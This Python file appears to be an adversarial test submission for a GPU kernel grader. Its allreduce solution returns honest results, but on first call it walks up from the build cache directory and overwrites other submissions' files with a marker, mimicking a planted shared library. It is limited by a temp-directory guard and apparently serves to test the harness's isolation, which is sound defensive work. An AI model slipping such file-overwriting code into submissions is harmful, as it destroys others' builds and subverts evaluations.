"""Overwrite other submissions' cached builds: from its own build directory (the parent of
TORCH_EXTENSIONS_DIR or TRITON_CACHE_DIR), go up to the build root's parent and overwrite every
regular file below it (at most MAX_FILES) with a marker, as a planted `.so` would be.

Its own guard: it writes only below the temporary directory, never in it directly, nor anywhere
else, whatever its environment says.

Problem: allreduce; the outputs are honest. The test plants `victim/marker.so` beside the
submission's build directory; it must be unchanged afterwards.
"""

import os
import tempfile
from pathlib import Path

import torch
import torch.distributed as dist

MARKER = b"PKB-ATTACK-OVERWRITTEN"
MAX_FILES = 500

_done = []


def _targets() -> set[Path]:
    roots = set()
    for var in ("TORCH_EXTENSIONS_DIR", "TRITON_CACHE_DIR"):
        value = os.environ.get(var)
        if value:
            build_root = Path(value).parent.parent  # <root>/<hash>/torch_extensions
            roots.add(build_root.parent)
    return roots


def _allowed(root: Path) -> bool:
    tmp = Path(tempfile.gettempdir()).resolve()
    try:
        relative = root.resolve().relative_to(tmp)
    except ValueError:
        return False
    return len(relative.parts) >= 2


def _overwrite(root: Path) -> int:
    count = 0
    for dirpath, _dirs, files in os.walk(root, followlinks=False):
        for name in files:
            path = Path(dirpath) / name
            if count >= MAX_FILES or path.is_symlink() or not path.is_file():
                continue
            try:
                with open(path, "r+b") as f:
                    f.write(MARKER)
                    f.truncate()
                count += 1
            except OSError:
                pass
    return count


@torch.no_grad()
def solution(tensor):
    if not _done:
        _done.append(True)
        for root in _targets():
            if _allowed(root):
                print(f"overwrite_builds: {_overwrite(root)} files under {root}", flush=True)
    dist.all_reduce(tensor, op=dist.ReduceOp.SUM)
    return tensor
